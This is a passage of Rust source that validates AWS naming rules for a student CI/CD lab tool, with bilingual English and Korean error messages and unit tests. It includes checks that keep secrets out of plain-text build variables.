//! AWS's naming rules and limits, one function per rule, each answering in English and Korean.
//!
//! A rule looks at one value and knows nothing of where it sits in the spec: `validate`
//! attaches the field path. Each rule reports its first problem only, since fixing that one
//! usually changes the rest.

use crate::regions;

use super::checks::{
    NO_UNIT, Noun, Problem, Rule, char_names, chars, length, noun, problem, quote_char, range, required,
};
use super::glob;
use super::korean::{topic, toward};

// ---- building blocks of the rules below ----

fn starts_with(s: &str, what: Noun, ok: impl Fn(char) -> bool, expected: Noun) -> Rule {
    match s.chars().next() {
        Some(c) if ok(c) => Ok(()),
        _ => Err(problem(
            "bad_start",
            format!("{} must start with {}.", what.en, expected.en),
            format!("{} {} 시작해야 합니다.", topic(what.ko), toward(expected.ko)),
        )),
    }
}

fn no_edge_hyphen(s: &str, what: Noun) -> Rule {
    if s.starts_with('-') || s.ends_with('-') {
        return Err(problem(
            "edge_hyphen",
            format!("{} cannot start or end with a hyphen.", what.en),
            format!("{} 하이픈(-)으로 시작하거나 끝날 수 없습니다.", topic(what.ko)),
        ));
    }
    Ok(())
}

fn reserved_prefix(s: &str, prefix: &str, what: Noun) -> Rule {
    if s.starts_with(prefix) {
        return Err(problem(
            "reserved_prefix",
            format!("{} cannot start with \"{prefix}\": AWS reserves it.", what.en),
            format!(
                "{} \"{prefix}\"로 시작할 수 없습니다. AWS가 예약해 둔 접두사입니다.",
                topic(what.ko)
            ),
        ));
    }
    Ok(())
}

fn alnum_lower(c: char) -> bool {
    c.is_ascii_lowercase() || c.is_ascii_digit()
}

const LOWER_DIGIT_HYPHEN: Noun = noun("lowercase letters, digits and hyphens", "영문 소문자, 숫자, 하이픈(-)");
const ALNUM_HYPHEN: Noun = noun("letters, digits and hyphens", "영문자, 숫자, 하이픈(-)");
const ALNUM_HYPHEN_UNDERSCORE: Noun = noun(
    "letters, digits, hyphens and underscores",
    "영문자, 숫자, 하이픈(-), 밑줄(_)",
);
const A_LOWERCASE_LETTER: Noun = noun("a lowercase letter", "영문 소문자");

// ---- the lab itself ----

/// The lab's name, the prefix of every resource name, so it must also satisfy the strictest
/// rule any derived name meets: ECR (no doubled separators), ALB (no `internal-`), security
/// groups (no `sg-`), S3 (lowercase).
pub(crate) fn lab_name(s: &str) -> Rule {
    lab_name_rule(s).map_err(|p| p.suggest(lab_name_fix(s)))
}

fn lab_name_rule(s: &str) -> Rule {
    let what = noun("The lab name", "실습 이름");
    length(s, 3, 20, what)?;
    chars(s, what, |c| alnum_lower(c) || c == '-', LOWER_DIGIT_HYPHEN)?;
    starts_with(s, what, |c| c.is_ascii_lowercase(), A_LOWERCASE_LETTER)?;
    no_edge_hyphen(s, what)?;
    if s.contains("--") {
        return Err(problem(
            "double_hyphen",
            "The lab name cannot contain two hyphens in a row (ECR repository names forbid it).",
            "실습 이름에는 하이픈을 두 개 연달아 쓸 수 없습니다 (ECR 리포지토리 이름 규칙).",
        ));
    }
    reserved_prefix(s, "internal-", what)?;
    reserved_prefix(s, "sg-", what)
}

/// The lab name a student most likely meant: "Minsu Lab" → "minsu-lab". Lowercase, every run
/// of other characters one hyphen, leading digits and hyphens dropped, cut to 20 characters;
/// `None` when that is still not a valid name.
fn lab_name_fix(s: &str) -> Option<String> {
    let mut out = String::new();
    for c in s.trim().chars().map(|c| c.to_ascii_lowercase()) {
        if alnum_lower(c) {
            out.push(c);
        } else if !out.is_empty() && !out.ends_with('-') {
            out.push('-');
        }
    }
    let out = out.trim_start_matches(|c: char| !c.is_ascii_lowercase());
    let out: String = out.chars().take(20).collect();
    let out = out.trim_end_matches('-').to_owned();
    (lab_name_rule(&out).is_ok() && out != s).then_some(out)
}

pub(crate) fn region(s: &str) -> Rule {
    required(s, noun("The region", "리전"))?;
    if regions::region(s).is_some() {
        return Ok(());
    }
    // "ap-northeast-2a" is an availability zone, the classic copy-paste from the console.
    let trimmed = s.trim_end_matches(|c: char| c.is_ascii_lowercase());
    if trimmed != s && regions::region(trimmed).is_some() {
        return Err(problem(
            "availability_zone",
            format!("\"{s}\" is an availability zone; the region is \"{trimmed}\"."),
            format!(
                "{} 가용 영역입니다. 리전은 \"{trimmed}\"입니다.",
                topic(&format!("\"{s}\""))
            ),
        ));
    }
    Err(problem(
        "unknown_region",
        format!("\"{s}\" is not a region Pipewright supports: pick one from the list, e.g. ap-northeast-2 (Seoul)."),
        format!("Pipewright가 지원하지 않는 리전입니다: \"{s}\". 목록에서 고르세요 (예: ap-northeast-2, 서울)."),
    ))
}

// ---- source ----

/// `owner/repo` as GitHub spells it; a pasted URL is recognised and the fix suggested.
pub(crate) fn github_repository(s: &str) -> Rule {
    github_repository_rule(s).map_err(|p| {
        let fix = repository_fix(s);
        p.suggest(fix)
    })
}

/// `owner/repo` out of what was pasted: a URL (https or ssh), a `.git` suffix, a trailing
/// slash or surrounding spaces dropped; `None` when that is still not a repository.
fn repository_fix(s: &str) -> Option<String> {
    let trimmed = s.trim();
    let rest = trimmed.split_once("github.com").map_or(trimmed, |(_, r)| r);
    let fix = rest
        .trim_start_matches([':', '/'])
        .trim_end_matches('/')
        .trim_end_matches(".git");
    // A URL of a page inside the repository: its first two parts.
    let fix = fix.split('/').take(2).collect::<Vec<_>>().join("/");
    (github_repository_rule(&fix).is_ok() && fix != s).then_some(fix)
}

fn github_repository_rule(s: &str) -> Rule {
    let what = noun("The repository", "리포지토리");
    required(s, what)?;
    if s.contains("github.com") {
        let suggestion = repository_fix(s).unwrap_or_else(|| "owner/repo".into());
        return Err(problem(
            "url_not_repository",
            format!("Enter only the owner/repo part, not the whole address: \"{suggestion}\"."),
            format!("주소 전체가 아니라 owner/repo 부분만 입력하세요: \"{suggestion}\"."),
        ));
    }
    let Some((owner, repo)) = s.split_once('/').filter(|(_, r)| !r.contains('/')) else {
        return Err(problem(
            "not_owner_repo",
            "Enter the repository as owner/repo, e.g. octocat/hello-world.",
            "리포지토리는 owner/repo 형식으로 입력하세요 (예: octocat/hello-world).",
        ));
    };
    let owner_noun = noun("The GitHub owner", "GitHub 소유자 이름");
    length(owner, 1, 39, owner_noun)?;
    chars(
        owner,
        owner_noun,
        |c| c.is_ascii_alphanumeric() || c == '-',
        ALNUM_HYPHEN,
    )?;
    no_edge_hyphen(owner, owner_noun)?;
    let repo_noun = noun("The repository name", "리포지토리 이름");
    length(repo, 1, 100, repo_noun)?;
    chars(
        repo,
        repo_noun,
        |c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'),
        noun("letters, digits, '.', '_' and '-'", "영문자, 숫자, '.', '_', '-'"),
    )?;
    if repo == "." || repo == ".." {
        return Err(problem(
            "reserved_name",
            "The repository name cannot be \".\" or \"..\".",
            "리포지토리 이름은 \".\"이나 \"..\"일 수 없습니다.",
        ));
    }
    if let Some(bare) = repo.strip_suffix(".git") {
        return Err(problem(
            "git_suffix",
            format!("Leave out \".git\": {owner}/{bare}."),
            format!("\".git\"은 빼고 입력하세요: {owner}/{bare}."),
        ));
    }
    Ok(())
}

/// Git's own ref-name rules (`git check-ref-format`), with glob characters allowed or not.
fn git_ref(s: &str, what: Noun, glob: bool) -> Rule {
    length(s, 1, 255, what)?;
    if let Some(c) = s.chars().find(|c| c.is_whitespace() || c.is_control()) {
        let (c_en, c_ko) = char_names(c);
        return Err(problem(
            "whitespace",
            format!("{} cannot contain spaces or control characters ({c_en}).", what.en),
            format!("{}에는 공백이나 제어 문자를 쓸 수 없습니다 ({c_ko}).", what.ko),
        ));
    }
    let forbidden: &[char] = if glob {
        &['~', '^', ':', '\\']
    } else {
        &['~', '^', ':', '\\', '*', '?', '[']
    };
    if let Some(c) = s.chars().find(|c| forbidden.contains(c)) {
        let (en, ko) = if !glob && matches!(c, '*' | '?' | '[') {
            (
                " A branch name is exact; patterns go in the trigger filter.",
                " 브랜치 이름은 정확히 써야 하며, 패턴은 트리거 필터에 씁니다.",
            )
        } else {
            ("", "")
        };
        return Err(problem(
            "invalid_chars",
            format!("{} cannot contain {} (git forbids it).{en}", what.en, quote_char(c)),
            format!(
                "{}에는 {} 문자를 쓸 수 없습니다 (git 규칙).{ko}",
                what.ko,
                quote_char(c)
            ),
        ));
    }
    let bad = s.contains("..")
        || s.contains("@{")
        || s == "@"
        || s.contains("//")
        || s.starts_with(['/', '-'])
        || s.ends_with(['/', '.'])
        || s.ends_with(".lock")
        || s.split('/').any(|part| part.starts_with('.'));
    if bad {
        return Err(problem(
            "invalid_ref",
            format!(
                "{} is not a valid git name: no \"..\", \"@{{\" or \"//\", no part starting with '.', not starting with '/' or '-', not ending with '/', '.' or \".lock\".",
                what.en
            ),
            format!(
                "{} git에서 쓸 수 없는 이름입니다: \"..\", \"@{{\", \"//\"를 포함하거나, '.'으로 시작하는 부분이 있거나, '/'나 '-'로 시작하거나, '/', '.', \".lock\"으로 끝나면 안 됩니다.",
                topic(what.ko)
            ),
        ));
    }
    Ok(())
}

pub(crate) fn git_branch(s: &str) -> Rule {
    git_ref(s, noun("The branch", "브랜치"), false)
}

/// A branch or tag pattern of a trigger filter: git's rules plus valid glob syntax.
pub(crate) fn ref_glob(s: &str, what: Noun) -> Rule {
    git_ref(s, what, true)?;
    glob::syntax(s, what)
}

/// A file-path pattern of a trigger filter, relative to the repository root.
pub(crate) fn path_glob(s: &str) -> Rule {
    let what = noun("The file path pattern", "파일 경로 패턴");
    length(s, 1, 255, what)?;
    if let Some(c) = s.chars().find(|c| c.is_control()) {
        return Err(problem(
            "control_char",
            format!("{} cannot contain control characters ({}).", what.en, quote_char(c)),
            format!("{}에는 제어 문자를 쓸 수 없습니다 ({}).", what.ko, quote_char(c)),
        ));
    }
    if s.starts_with('/') {
        return Err(problem(
            "leading_slash",
            "File path patterns are relative to the repository root: drop the leading '/'.",
            "파일 경로 패턴은 리포지토리 루트 기준입니다. 맨 앞의 '/'를 빼 주세요.",
        ));
    }
    glob::syntax(s, what)
}

pub(crate) fn connection_name(s: &str) -> Rule {
    let what = noun("The connection name", "연결 이름");
    length(s, 1, 32, what)?;
    chars(
        s,
        what,
        |c| !c.is_control(),
        noun("printable characters", "출력 가능한 문자"),
    )
}

fn account_id(s: &str) -> bool {
    s.len() == 12 && s.bytes().all(|b| b.is_ascii_digit())
}

fn bad_arn(what: Noun, example: &str) -> Problem {
    problem(
        "invalid_arn",
        format!("{} is not a valid ARN; expected something like {example}.", what.en),
        format!("{} 올바른 ARN이 아닙니다. 예: {example}", topic(what.ko)),
    )
}

pub(crate) fn connection_arn(s: &str) -> Rule {
    let what = noun("The connection ARN", "연결 ARN");
    required(s, what)?;
    let example = "arn:aws:codeconnections:ap-northeast-2:123456789012:connection/0a1b2c3d-…";
    let parts: Vec<&str> = s.split(':').collect();
    let ok = parts.len() == 6
        && parts[0] == "arn"
        && parts[1] == "aws"
        && matches!(parts[2], "codeconnections" | "codestar-connections")
        && regions::region(parts[3]).is_some()
        && account_id(parts[4])
        && parts[5]
            .strip_prefix("connection/")
            .is_some_and(|id| !id.is_empty() && id.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'));
    if ok { Ok(()) } else { Err(bad_arn(what, example)) }
}

// ---- IAM, S3, CodePipeline, CodeBuild ----

pub(crate) fn role_name(s: &str) -> Rule {
    let what = noun("The role name", "역할 이름");
    length(s, 1, 64, what)?;
    chars(
        s,
        what,
        |c| c.is_ascii_alphanumeric() || "+=,.@_-".contains(c),
        noun("letters, digits and + = , . @ _ -", "영문자, 숫자, + = , . @ _ -"),
    )
}

pub(crate) fn role_arn(s: &str) -> Rule {
    let what = noun("The role ARN", "역할 ARN");
    required(s, what)?;
    let example = "arn:aws:iam::123456789012:role/my-role";
    let Some(rest) = s.strip_prefix("arn:aws:iam::") else {
        return Err(bad_arn(what, example));
    };
    let Some((account, resource)) = rest.split_once(':') else {
        return Err(bad_arn(what, example));
    };
    let name = resource.strip_prefix("role/").and_then(|p| p.rsplit('/').next());
    match name {
        Some(name) if account_id(account) => role_name(name),
        _ => Err(bad_arn(what, example)),
    }
}

/// S3's general purpose bucket naming rules.
pub(crate) fn s3_bucket(s: &str) -> Rule {
    let what = noun("The bucket name", "버킷 이름");
    length(s, 3, 63, what)?;
    chars(
        s,
        what,
        |c| alnum_lower(c) || c == '.' || c == '-',
        noun("lowercase letters, digits, '.' and '-'", "영문 소문자, 숫자, '.', '-'"),
    )?;
    if !s.starts_with(alnum_lower) || !s.ends_with(alnum_lower) {
        return Err(problem(
            "bad_start_end",
            "The bucket name must start and end with a lowercase letter or digit.",
            "버킷 이름은 영문 소문자나 숫자로 시작하고 끝나야 합니다.",
        ));
    }
    if s.contains("..") {
        return Err(problem(
            "double_dot",
            "The bucket name cannot contain two periods in a row.",
            "버킷 이름에는 마침표를 두 개 연달아 쓸 수 없습니다.",
        ));
    }
    let parts: Vec<&str> = s.split('.').collect();
    if parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()))
    {
        return Err(problem(
            "ip_address",
            "The bucket name cannot look like an IP address.",
            "버킷 이름은 IP 주소 형식일 수 없습니다.",
        ));
    }
    for prefix in ["xn--", "sthree-", "amzn-s3-demo-"] {
        reserved_prefix(s, prefix, what)?;
    }
    for suffix in ["-s3alias", "--ol-s3", ".mrap", "--x-s3", "--table-s3"] {
        if s.ends_with(suffix) {
            return Err(problem(
                "reserved_suffix",
                format!("The bucket name cannot end with \"{suffix}\": AWS reserves it."),
                format!("버킷 이름은 \"{suffix}\"로 끝날 수 없습니다. AWS가 예약해 둔 접미사입니다."),
            ));
        }
    }
    Ok(())
}

pub(crate) fn pipeline_name(s: &str) -> Rule {
    let what = noun("The pipeline name", "파이프라인 이름");
    length(s, 1, 100, what)?;
    chars(
        s,
        what,
        |c| c.is_ascii_alphanumeric() || ".@_-".contains(c),
        noun("letters, digits and . @ _ -", "영문자, 숫자, . @ _ -"),
    )
}

pub(crate) fn codebuild_project(s: &str) -> Rule {
    let what = noun("The project name", "프로젝트 이름");
    length(s, 2, 255, what)?;
    chars(
        s,
        what,
        |c| c.is_ascii_alphanumeric() || c == '_' || c == '-',
        ALNUM_HYPHEN_UNDERSCORE,
    )?;
    starts_with(
        s,
        what,
        |c| c.is_ascii_alphanumeric(),
        noun("a letter or digit", "영문자나 숫자"),
    )
}

pub(crate) fn build_image(s: &str) -> Rule {
    let what = noun("The build image", "빌드 이미지");
    length(s, 1, 255, what)?;
    chars(
        s,
        what,
        |c| !c.is_whitespace() && !c.is_control(),
        noun("non-space characters", "공백이 아닌 문자"),
    )
}

pub(crate) fn buildspec_path(s: &str) -> Rule {
    let what = noun("The buildspec path", "buildspec 경로");
    length(s, 1, 255, what)?;
    chars(
        s,
        what,
        |c| !c.is_control(),
        noun("printable characters", "출력 가능한 문자"),
    )?;
    if s.starts_with('/') || s.split('/').any(|p| p == "..") {
        return Err(problem(
            "not_relative",
            "The buildspec path is relative to the repository root and cannot leave it (no leading '/', no \"..\").",
            "buildspec 경로는 리포지토리 루트 기준의 상대 경로여야 합니다 (맨 앞 '/'나 \"..\"는 쓸 수 없습니다).",
        ));
    }
    // CodeBuild reads its buildspec field as YAML when it is not a path, so a one-line
    // `{version: 0.2, phases: ...}` here would run commands the student never saw in a file.
    let yaml_like = s.contains([':', '{', '}', '[', ']', '#', '|', '>', '&', '*', '!']);
    if yaml_like || !(s.ends_with(".yml") || s.ends_with(".yaml")) {
        return Err(problem(
            "not_a_path",
            "The buildspec path must be a file path ending in .yml or .yaml, e.g. buildspec.yml; buildspec contents (YAML) cannot go here.",
            "buildspec 경로는 buildspec.yml처럼 .yml이나 .yaml로 끝나는 파일 경로여야 합니다. buildspec 내용(YAML)은 여기에 쓸 수 없습니다.",
        ));
    }
    Ok(())
}

/// Names the app sets itself, so the buildspec never hard-codes them.
pub(crate) const RESERVED_ENV_NAMES: &[&str] = &[
    "ACCOUNT_ID",
    "AWS_REGION",
    "AWS_DEFAULT_REGION",
    "REPOSITORY_URI",
    "CONTAINER_NAME",
    "IMAGE_TAG",
];

/// CodeBuild's API sets no length on a variable's name or value (EnvironmentVariable: name at
/// least 1 character); CodePipeline, which runs the build, takes names of 1–128 characters
/// and values of up to 2000 (its EnvironmentVariable type). We apply those.
pub(crate) const ENV_NAME_MAX: usize = 128;
pub(crate) const ENV_VALUE_MAX: usize = 2000;

pub(crate) fn env_var_name(s: &str) -> Rule {
    let what = noun("The variable name", "변수 이름");
    length(s, 1, ENV_NAME_MAX, what)?;
    chars(
        s,
        what,
        |c| c.is_ascii_alphanumeric() || c == '_',
        noun("letters, digits and '_'", "영문자, 숫자, '_'"),
    )?;
    starts_with(
        s,
        what,
        |c| c.is_ascii_alphabetic() || c == '_',
        noun("a letter or '_'", "영문자나 '_'"),
    )?;
    if RESERVED_ENV_NAMES.contains(&s) || s.starts_with("CODEBUILD_") {
        return Err(problem(
            "reserved_name",
            format!("{s} is set by Pipewright or CodeBuild itself; choose another name."),
            format!(
                "{} Pipewright나 CodeBuild가 직접 설정하는 이름입니다. 다른 이름을 쓰세요.",
                topic(s)
            ),
        ));
    }
    let upper = s.to_ascii_uppercase();
    if [
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "TOKEN",
        "PRIVATE_KEY",
        "ACCESS_KEY",
        "API_KEY",
    ]
    .iter()
    .any(|w| upper.contains(w))
    {
        return Err(problem(
            "looks_secret",
            format!(
                "{s} looks like a secret. Build variables are plain text, visible in the console and stored in the spec file: never put secrets in them."
            ),
            format!(
                "{} 비밀 값처럼 보입니다. 빌드 변수는 평문이라 콘솔에 보이고 스펙 파일에도 저장되므로 비밀 값을 넣으면 안 됩니다.",
                topic(s)
            ),
        ));
    }
    Ok(())
}

pub(crate) fn env_var_value(s: &str) -> Rule {
    let n = s.chars().count();
    if n > ENV_VALUE_MAX {
        return Err(problem(
            "too_long",
            format!("The value must be at most {ENV_VALUE_MAX} characters (now {n})."),
            format!("값은 {ENV_VALUE_MAX}자 이하여야 합니다 (지금 {n}자)."),
        ));
    }
    // An access key id is the one secret with an unmistakable shape.
    let looks_like_key = s.split(|c: char| !c.is_ascii_alphanumeric()).any(|w| {
        w.len() == 20
            && (w.starts_with("AKIA") || w.starts_with("ASIA"))
            && w.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
    });
    if looks_like_key {
        return Err(problem(
            "looks_secret",
            "This value contains an AWS access key id. Build variables are plain text: never put credentials in them (the build role already grants what the build needs).",
            "이 값에 AWS 액세스 키 ID가 들어 있습니다. 빌드 변수는 평문이므로 자격 증명을 넣으면 안 됩니다 (빌드에 필요한 권한은 빌드 역할이 이미 줍니다).",
        ));
    }
    Ok(())
}

// ---- ECR ----

/// ECR's rules as the console states them: starts with a letter; lowercase letters, digits
/// and `-_./`; each `/`-separated part starts and ends with a letter or digit.
pub(crate) fn ecr_repository(s: &str) -> Rule {
    let what = noun("The repository name", "리포지토리 이름");
    length(s, 2, 256, what)?;
    chars(
        s,
        what,
        |c| alnum_lower(c) || "-_./".contains(c),
        noun("lowercase letters, digits and - _ . /", "영문 소문자, 숫자, - _ . /"),
    )?;
    starts_with(s, what, |c| c.is_ascii_lowercase(), A_LOWERCASE_LETTER)?;
    if s.contains("//") || s.ends_with('/') {
        return Err(problem(
            "bad_slash",
            "The repository name cannot contain \"//\" or end with '/'.",
            "리포지토리 이름에는 \"//\"를 쓸 수 없고 '/'로 끝날 수도 없습니다.",
        ));
    }
    let separator = |c: char| "-_.".contains(c);
    let bad_part = s.split('/').any(|part| {
        part.starts_with(separator)
            || part.ends_with(separator)
            || part
                .as_bytes()
                .windows(2)
                .any(|w| separator(w[0] as char) && separator(w[1] as char))
    });
    if bad_part {
        return Err(problem(
            "bad_separator",
            "In the repository name, '-', '_' and '.' must sit between letters or digits (not doubled, not at the start or end of a part).",
            "리포지토리 이름에서 '-', '_', '.'는 영문자나 숫자 사이에만 올 수 있습니다 (연달아 쓰거나 각 부분의 처음·끝에 둘 수 없습니다).",
        ));
    }
    Ok(())
}

pub(crate) fn kms_key(s: &str) -> Rule {
    let what = noun("The KMS key", "KMS 키");
    length(s, 1, 2048, what)?;
    chars(
        s,
        what,
        |c| !c.is_whitespace() && !c.is_control(),
        noun("non-space characters", "공백이 아닌 문자"),
    )
}

// ---- ECS and ELB ----

/// Cluster, service, container and task family names.
pub(crate) fn ecs_name(s: &str, what: Noun) -> Rule {
    length(s, 1, 255, what)?;
    chars(
        s,
        what,
        |c| c.is_ascii_alphanumeric() || c == '_' || c == '-',
        ALNUM_HYPHEN_UNDERSCORE,
    )
}

/// Load balancer and target group names; `load_balancer` adds the `internal-` rule.
pub(crate) fn elb_name(s: &str, what: Noun, load_balancer: bool) -> Rule {
    length(s, 1, 32, what)?;
    chars(s, what, |c| c.is_ascii_alphanumeric() || c == '-', ALNUM_HYPHEN)?;
    no_edge_hyphen(s, what)?;
    if load_balancer {
        reserved_prefix(s, "internal-", what)?;
    }
    Ok(())
}

/// A port mapping's name (Service Connect uses it): lowercase, digits, `_`, `-`.
pub(crate) fn port_name(s: &str) -> Rule {
    let what = noun("The port name", "포트 이름");
    length(s, 1, 64, what)?;
    chars(
        s,
        what,
        |c| alnum_lower(c) || c == '_' || c == '-',
        noun("lowercase letters, digits, '_' and '-'", "영문 소문자, 숫자, '_', '-'"),
    )?;
    starts_with(
        s,
        what,
        |c| c != '-',
        noun("a letter, digit or '_'", "영문자, 숫자, '_'"),
    )
}

pub(crate) fn port(n: u32, what: Noun) -> Rule {
    range(n, 1, 65535, what, NO_UNIT)
}

pub(crate) fn platform_version(s: &str) -> Rule {
    if s == "LATEST" || s == "1.4.0" {
        return Ok(());
    }
    Err(problem(
        "unsupported_platform",
        format!(
            "Platform version \"{s}\" is not offered: use LATEST (or 1.4.0). Older versions lack ARM64 and newer ECS features."
        ),
        format!(
            "플랫폼 버전 {} 지원하지 않습니다. LATEST(또는 1.4.0)를 쓰세요. 이전 버전은 ARM64와 최신 ECS 기능을 지원하지 않습니다.",
            topic(&format!("\"{s}\""))
        ),
    ))
}

pub(crate) fn health_check_path(s: &str) -> Rule {
    let what = noun("The health check path", "상태 검사 경로");
    length(s, 1, 1024, what)?;
    if !s.starts_with('/') {
        return Err(problem(
            "leading_slash_required",
            format!("The health check path must start with '/', e.g. /{s}."),
            format!("상태 검사 경로는 '/'로 시작해야 합니다 (예: /{s})."),
        ));
    }
    chars(
        s,
        what,
        |c| !c.is_whitespace() && !c.is_control(),
        noun("non-space characters", "공백이 아닌 문자"),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn code(r: Rule) -> &'static str {
        r.err().map_or("ok", |p| p.code)
    }

    #[test]
    fn lab_name_rules() {
        for ok in ["ktb", "ktb-rex", "lab1", "a2345678901234567890"] {
            assert_eq!(code(lab_name(ok)), "ok", "{ok}");
        }
        assert_eq!(code(lab_name("")), "required");
        assert_eq!(code(lab_name("ab")), "too_short");
        assert_eq!(code(lab_name(&"a".repeat(21))), "too_long");
        assert_eq!(code(lab_name("KTB")), "invalid_chars");
        assert!(lab_name("Ktb").unwrap_err().en.contains("lowercase"));
        assert_eq!(code(lab_name("ktb_rex")), "invalid_chars");
        assert_eq!(code(lab_name("1ktb")), "bad_start");
        assert_eq!(code(lab_name("ktb-")), "edge_hyphen");
        assert_eq!(code(lab_name("ktb--rex")), "double_hyphen");
        assert_eq!(code(lab_name("internal-x")), "reserved_prefix");
        assert_eq!(code(lab_name("sg-lab")), "reserved_prefix");
    }

    #[test]
    fn a_bad_lab_name_comes_with_the_name_meant() {
        let fix = |s: &str| lab_name(s).unwrap_err().suggestion;
        assert_eq!(fix("Minsu Lab").as_deref(), Some("minsu-lab"));
        assert_eq!(fix("  KTB__Rex!! ").as_deref(), Some("ktb-rex"));
        assert_eq!(fix("1st-lab").as_deref(), Some("st-lab"));
        assert_eq!(
            fix("my-very-long-lab-name-2026").as_deref(),
            Some("my-very-long-lab-nam")
        );
        assert_eq!(fix("ab"), None, "no valid name to offer");
        assert_eq!(fix("민수"), None);
        assert_eq!(lab_name("ktb").err(), None);
    }

    #[test]
    fn a_pasted_address_comes_with_owner_repo() {
        let fix = |s: &str| github_repository(s).unwrap_err().suggestion;
        assert_eq!(
            fix("https://github.com/minsu-kim/hello-ktb").as_deref(),
            Some("minsu-kim/hello-ktb")
        );
        assert_eq!(
            fix("https://github.com/minsu-kim/hello-ktb/tree/main/src").as_deref(),
            Some("minsu-kim/hello-ktb")
        );
        assert_eq!(fix("git@github.com:octo/app.git").as_deref(), Some("octo/app"));
        assert_eq!(fix("octo/app.git").as_deref(), Some("octo/app"));
        assert_eq!(fix(" octo/app ").as_deref(), Some("octo/app"));
        assert_eq!(fix("octo"), None);
    }

    #[test]
    fn region_rules() {
        assert_eq!(code(region("ap-northeast-2")), "ok");
        assert_eq!(code(region("us-east-1")), "ok");
        assert_eq!(code(region("")), "required");
        assert_eq!(code(region("ap-northeast-2a")), "availability_zone");
        assert_eq!(code(region("mars-1")), "unknown_region");
        assert_eq!(code(region("cn-north-1")), "unknown_region");
    }

    #[test]
    fn github_repository_rules() {
        for ok in ["octocat/hello-world", "a/b", "kakao-tech/ktb_app.v2", "A1-b/x"] {
            assert_eq!(code(github_repository(ok)), "ok", "{ok}");
        }
        assert_eq!(code(github_repository("")), "required");
        let p = github_repository("https://github.com/octo/app.git").unwrap_err();
        assert_eq!(p.code, "url_not_repository");
        assert!(p.en.contains("\"octo/app\""));
        assert_eq!(
            code(github_repository("git@github.com:octo/app.git")),
            "url_not_repository"
        );
        assert_eq!(code(github_repository("octo")), "not_owner_repo");
        assert_eq!(code(github_repository("a/b/c")), "not_owner_repo");
        assert_eq!(code(github_repository("/app")), "required");
        assert_eq!(code(github_repository(&format!("{}/app", "a".repeat(40)))), "too_long");
        assert_eq!(code(github_repository("-octo/app")), "edge_hyphen");
        assert_eq!(code(github_repository("oc_to/app")), "invalid_chars");
        assert_eq!(code(github_repository("octo/my app")), "invalid_chars");
        assert_eq!(
            code(github_repository(&format!("octo/{}", "r".repeat(101)))),
            "too_long"
        );
        assert_eq!(code(github_repository("octo/..")), "reserved_name");
        assert_eq!(code(github_repository("octo/app.git")), "git_suffix");
    }

    #[test]
    fn branch_rules() {
        for ok in ["main", "master", "feature/login", "release-1.2", "v1"] {
            assert_eq!(code(git_branch(ok)), "ok", "{ok}");
        }
        assert_eq!(code(git_branch("")), "required");
        assert_eq!(code(git_branch("my branch")), "whitespace");
        assert_eq!(code(git_branch("tab\there")), "whitespace");
        assert_eq!(code(git_branch("feature/*")), "invalid_chars");
        assert_eq!(code(git_branch("a:b")), "invalid_chars");
        assert_eq!(code(git_branch("a..b")), "invalid_ref");
        assert_eq!(code(git_branch("-x")), "invalid_ref");
        assert_eq!(code(git_branch("x/")), "invalid_ref");
        assert_eq!(code(git_branch("x.lock")), "invalid_ref");
        assert_eq!(code(git_branch("a/.b")), "invalid_ref");
        assert_eq!(code(git_branch("a@{1}")), "invalid_ref");
    }

    #[test]
    fn glob_rules() {
        let b = noun("The branch pattern", "브랜치 패턴");
        for ok in ["main", "feature/*", "release-**", "v[0-9]*", "{main,dev}", "hotfix-?"] {
            assert_eq!(code(ref_glob(ok, b)), "ok", "{ok}");
        }
        assert_eq!(code(ref_glob("", b)), "required");
        assert_eq!(code(ref_glob("main dev", b)), "whitespace");
        assert_eq!(code(ref_glob("main,dev", b)), "comma_separated");
        assert_eq!(code(ref_glob("v[0-9", b)), "unbalanced_brackets");
        assert_eq!(code(ref_glob("{a,b", b)), "unbalanced_brackets");
        assert_eq!(code(ref_glob("a}", b)), "unbalanced_brackets");
        assert_eq!(code(ref_glob("a~1", b)), "invalid_chars");
        assert_eq!(code(ref_glob("a..*", b)), "invalid_ref");
        assert_eq!(code(path_glob("src/**")), "ok");
        assert_eq!(code(path_glob("docs/my notes.md")), "ok");
        assert_eq!(code(path_glob("/src/**")), "leading_slash");
        assert_eq!(code(path_glob("a\u{7}")), "control_char");
        assert_eq!(code(path_glob("")), "required");
    }

    #[test]
    fn connection_rules() {
        assert_eq!(code(connection_name("ktb-github")), "ok");
        assert_eq!(code(connection_name(&"c".repeat(33))), "too_long");
        assert_eq!(code(connection_name("a\nb")), "invalid_chars");
        let arn = "arn:aws:codeconnections:ap-northeast-2:123456789012:connection/0a1b2c3d-aaaa-bbbb-cccc-123456789012";
        assert_eq!(code(connection_arn(arn)), "ok");
        assert_eq!(
            code(connection_arn(&arn.replace("codeconnections", "codestar-connections"))),
            "ok"
        );
        assert_eq!(code(connection_arn("")), "required");
        assert_eq!(
            code(connection_arn(&arn.replace("123456789012:", "1234:"))),
            "invalid_arn"
        );
        assert_eq!(code(connection_arn("arn:aws:iam::123456789012:role/x")), "invalid_arn");
    }

    #[test]
    fn iam_rules() {
        assert_eq!(code(role_name("ktb-rex-build-role")), "ok");
        assert_eq!(code(role_name("a+=,.@_-b")), "ok");
        assert_eq!(code(role_name(&"r".repeat(65))), "too_long");
        assert_eq!(code(role_name("my role")), "invalid_chars");
        assert_eq!(code(role_arn("arn:aws:iam::123456789012:role/my-role")), "ok");
        assert_eq!(
            code(role_arn("arn:aws:iam::123456789012:role/service-role/my-role")),
            "ok"
        );
        assert_eq!(code(role_arn("arn:aws:iam::123456789012:user/me")), "invalid_arn");
        assert_eq!(code(role_arn("arn:aws:iam::12345:role/x")), "invalid_arn");
        assert_eq!(code(role_arn("my-role")), "invalid_arn");
        assert_eq!(
            code(role_arn("arn:aws:iam::123456789012:role/bad name")),
            "invalid_chars"
        );
    }

    #[test]
    fn s3_rules() {
        for ok in ["pipewright-ktb-artifacts-123456789012", "abc", "a.b-c"] {
            assert_eq!(code(s3_bucket(ok)), "ok", "{ok}");
        }
        assert_eq!(code(s3_bucket("ab")), "too_short");
        assert_eq!(code(s3_bucket(&"b".repeat(64))), "too_long");
